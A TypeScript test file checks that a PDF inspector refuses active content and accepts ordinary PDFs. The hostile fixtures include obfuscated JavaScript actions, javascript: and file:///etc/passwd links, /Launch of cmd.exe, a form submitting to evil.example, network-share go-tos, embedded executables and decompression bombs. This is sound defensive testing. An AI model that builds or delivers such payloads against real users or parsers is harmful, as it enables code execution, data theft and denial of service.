/**
 * PDFs are accepted only as inert documents: the check reads their structure (objects, names
 * with #xx escapes, strings, object streams inflated within a budget) and refuses every way of
 * carrying scripts, actions that reach out, forms that submit, attachments and rich media —
 * while ordinary documents, scans and links pass.
 */
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { inspectEvidence } from '../../evidence/inspect';
import { SAMPLE_PDF } from '../../scripts/sample-files';
import { buildPdf, objectStream, onePage, streamBody } from '../support/pdf-builder';

/** Deterministic noise standing in for compressed image data. */
function noise(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

/** Noise with the given texts planted in it, as random image bytes sometimes spell them. */
function noiseWith(length: number, planted: string[]): Buffer {
  const out = noise(length);
  planted.forEach((text, i) => out.write(text, Math.floor(((i + 1) * length) / (planted.length + 2)), 'latin1'));
  return out;
}

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const link = (action: string) => `<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A ${action}>>`;

/** A page whose one annotation is a link running the given action. */
const acting = (action: string, more: string[] = []) => onePage('', '/Annots[4 0 R]', [link(action), ...more]);
const SCRIPTS = /scripts \(\/(JS|JavaScript)\)/;
const STRUCTURE = /structure cannot be read/;
const LINK = /link that is not to a web page/;

const hostile: Array<[string, Buffer, RegExp]> = [
  ['/JavaScript in a link', acting(script), SCRIPTS],
  ['/JavaScript spelled /J#61vaScript', acting('<</S/J#61vaScript/J#53(app.alert\\(1\\))>>'), SCRIPTS],
  ['/JS spelled entirely in #xx escapes', acting('<</S/#4A#61#76#61#53#63#72#69#70#74/#4A#53(x)>>'), SCRIPTS],
  ['/JS whose script is a hex string', acting('<</S/JavaScript/JS<6170702e616c657274283129>>>'), SCRIPTS],
  ['/JS whose script is a stream', acting('<</S/JavaScript/JS 5 0 R>>', [streamBody('/Filter/FlateDecode', deflateSync('app.alert(1)')).toString('latin1')]), SCRIPTS],
  ['/JavaScript as the open action', onePage(`/OpenAction${script}`), /OpenAction|scripts/],
  ['a document-level script in the /Names tree', onePage('/Names<</JavaScript<</Names[(a)4 0 R]>>>>', '', [script]), SCRIPTS],
  ['JavaScript in an object stream', onePage('/Names<</JavaScript<</Names[(a)5 0 R]>>>>', '', [objectStream([[5, script]])]), SCRIPTS],
  [
    'JavaScript in an object stream whose dictionary is longer than 4 KB',
    acting('6 0 R', [objectStream([[6, script]], { before: `/Padding[${'0 '.repeat(3000)}]` }).toString('latin1')]),
    SCRIPTS,
  ],
  ['JavaScript in an object stream whose dictionary holds the text "stream"', acting('6 0 R', [objectStream([[6, script]], { before: '/Note(stream\n)' }).toString('latin1')]), SCRIPTS],
  ['JavaScript in an object stream behind the word "obj" in a name', acting('6 0 R', [objectStream([[6, script]], { before: '/obj/stream' }).toString('latin1')]), SCRIPTS],
  ["an object stream whose objects overlap (one inside another's string)", acting('5 0 R', [objectStream([[6, '(<</S/Launch/F(cmd.exe)>>)']], { header: '6 0 5 1', n: 2 }).toString('latin1')]), STRUCTURE],
  ['an object stream whose offsets run backwards', acting('5 0 R', [objectStream([[6, '<<>>'], [5, '<<>>']], { header: '6 5 5 0', n: 2 }).toString('latin1')]), STRUCTURE],
  ['an object stream compressed twice', acting('6 0 R', [streamBody('/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(`6 0 ${script}`))).toString('latin1')]), STRUCTURE],
  ['an object stream with a predictor', acting('6 0 R', [streamBody('/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>', deflateSync(`6 0 ${script}`)).toString('latin1')]), STRUCTURE],
  ['an object hidden inside an image stream', acting('9 0 R', [streamBody('/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray', `\x00\n9 0 obj${script}endobj\n`).toString('latin1')]), STRUCTURE],
  ['an object hidden inside a comment', acting('9 0 R', ['<<>>\n%9 0 obj<</S/Launch/F(cmd.exe)>>endobj']), STRUCTURE],
  ['an object hidden inside a string', acting('9 0 R', ['(\n9 0 obj<</S/Launch/F(cmd.exe)>>endobj\n)']), STRUCTURE],
  ['the keyword stream inside a dictionary', onePage('', '', ['<</Length 10 stream\n0123456789\nendstream/S/Launch>>']), STRUCTURE],
  ['an XFA form', onePage('/AcroForm<</Fields[]/XFA 4 0 R>>', '', [streamBody('', '<xdp:xdp><script>app.alert(1)</script></xdp:xdp>')]), /XFA/],
  ['a javascript: link', acting('<</S/URI/URI(javascript:app.alert\\(1\\))>>'), LINK],
  ['a JavaScript: link with leading spaces', acting('<</S/URI/URI(  JavaScript:app.alert\\(1\\))>>'), LINK],
  ['a java\tscript: link', acting('<</S/URI/URI(java\\tscript:x)>>'), LINK],
  ['a javascript: link written in octal escapes', acting('<</S/URI/URI(\\152avascript:x)>>'), LINK],
  ['a javascript: link in a hex string', acting(`<</S/URI/URI<${Buffer.from('javascript:x').toString('hex')}>>>`), LINK],
  ['a javascript: link in UTF-16', acting(`<</S/URI/URI<feff${Buffer.from('javascript:x', 'utf16le').swap16().toString('hex')}>>>`), LINK],
  ['a link whose address is held elsewhere', acting('<</S/URI/URI 5 0 R>>', ['(javascript:x)']), LINK],
  ['a link whose address is missing', acting('<</S/URI/URI 9 0 R>>'), LINK],
  ['a file: link', acting('<</S/URI/URI(file:///etc/passwd)>>'), LINK],
  ['a form that submits', acting('<</S/SubmitForm/F(https://evil.example/collect)>>'), /SubmitForm/],
  ['a form that imports data', acting('<</S/ImportData/F(data.fdf)>>'), /ImportData/],
  ['/Launch', acting('<</S/Launch/F(cmd.exe)>>'), /Launch/],
  ['/Launch with its name escaped', acting('<</S/Lau#6Ech/F(cmd.exe)>>'), /Launch/],
  ['a remote go-to (reaches a network share)', acting('<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>'), /GoToR/],
  ['an embedded go-to', acting('<</S/GoToE/T<</R/C/N(a)>>>>'), /GoToE/],
  ['an open action that prints', onePage('/OpenAction<</S/Named/N/Print>>'), /OpenAction/],
  ['an open action that is another object, itself a URI', onePage('/OpenAction 4 0 R', '', ['<</S/URI/URI(https://example.com/track)>>']), /OpenAction/],
  ['additional actions on a page', onePage('', '/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>'), /AA/],
  ['rich media', onePage('', '/Annots[4 0 R]', ['<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>']), /RichMedia/],
  ['a movie', onePage('', '/Annots[4 0 R]', ['<</Type/Annot/Subtype/Movie/Rect[0 0 1 1]>>']), /Movie/],
  ['an embedded file', onePage('', '', [streamBody('/Type/EmbeddedFile', 'MZ')]), /EmbeddedFile/],
  ['an attachment in the /EmbeddedFiles tree', onePage('/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>', '', ['<</Type/Filespec/F(a.exe)>>']), /EmbeddedFiles/],
  ['a file attachment annotation', onePage('', '/Annots[4 0 R]', ['<</Type/Annot/Subtype/FileAttachment/Rect[0 0 1 1]/FS 5 0 R>>', '<</Type/Filespec/F(a.exe)>>']), /FileAttachment/],
  ['an encrypted document', onePage('', '', ['<</Filter/Standard/V 1/R 2/O<00>/U<00>/P -4>>'], '/Encrypt 4 0 R'), /Encrypt/],
  ['arrays nested a hundred thousand deep', onePage(`/X${'['.repeat(100_000)}${']'.repeat(100_000)}`), /too complex/],
  ['a million values', onePage(`/X[${'0 '.repeat(2_100_000)}]`), /too complex/],
];

const benign: Array<[string, Buffer]> = [
  ['the sample one-page PDF', SAMPLE_PDF],
  ['a document with an xref table', onePage()],
  ['web and mail links', onePage('', '/Annots[4 0 R 5 0 R]', [link('<</S/URI/URI(https://yjj.example.gov.cn/report?id=1)>>'), link('<</S/URI/URI(mailto:safety@example.com)>>')])],
  ['an open action that shows the first page', onePage('/OpenAction[3 0 R/Fit]')],
  ['an open action that goes to the first page', onePage('/OpenAction<</S/GoTo/D[3 0 R/XYZ 0 200 0]>>')],
  [
    'a compressed page and a scan whose bytes happen to spell names and keywords',
    onePage('', '/Contents 4 0 R/Resources<</XObject<</Im1 5 0 R>>>>', [
      streamBody('/Filter/FlateDecode', deflateSync('q 200 0 0 200 0 0 cm /Im1 Do Q')),
      streamBody('/Type/XObject/Subtype/Image/Width 512/Height 512/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode', noiseWith(512 * 1024, ['/JS ', '/JavaScript(', '/Launch/', 'endobj', 'stream\n', '/AA<<'])),
    ]),
  ],
  ['objects packed in an object stream (PDF 1.5)', onePage('', '/Resources<</Font<</F1 5 0 R>>>>', [objectStream([[5, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'], [6, '<</Producer(Scanner 2.1)>>']])])],
  ['a stream whose length is another object', onePage('', '/Contents 4 0 R', ['<</Length 5 0 R>>stream\nBT /F1 12 Tf (stream endobj) Tj ET\nendstream', '35'])],
  ['a title with the words stream, obj and endobj', buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>', '<</Title(Upstream obj report \\(endobj\\) stream)>>'], { trailer: '/Info 3 0 R' })],
  ['XMP metadata', onePage('/Metadata 4 0 R', '', [streamBody('/Type/Metadata/Subtype/XML', '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta><?xpacket end="w"?>')])],
  ['a form with fields but no actions', onePage('/AcroForm<</Fields[4 0 R]>>', '/Annots[4 0 R]', ['<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(张三)/Rect[0 0 100 20]>>'])],
];

describe('PDF active content', () => {
  it.each(hostile)('refuses %s', async (_what, bytes, why) => {
    const verdict = await inspectEvidence(bytes);
    expect(verdict.ok).toBe(false);
    if (!verdict.ok) expect(verdict.reason).toMatch(/^the PDF/);
    if (!verdict.ok) expect(verdict.reason).toMatch(why);
  });

  it.each(benign)('accepts %s', async (_what, bytes) => {
    const verdict = await inspectEvidence(bytes);
    expect(verdict).toMatchObject({ ok: true, mediaType: 'application/pdf' });
  });

  it('refuses object streams that inflate past the budget as too complex, quickly', async () => {
    // Each stream inflates to 40 MB of spaces after one small object: two are over the budget.
    const streams = [4, 5, 6].map((n) => objectStream([[n + 10, '<<>>']], { padding: 40 * 1024 * 1024 }));
    const bytes = onePage('', '', streams);
    expect(bytes.length).toBeLessThan(200_000);
    const started = Date.now();
    const verdict = await inspectEvidence(bytes);
    expect(verdict).toMatchObject({ ok: false, tooComplex: true });
    expect(Date.now() - started).toBeLessThan(5000);
  });
});
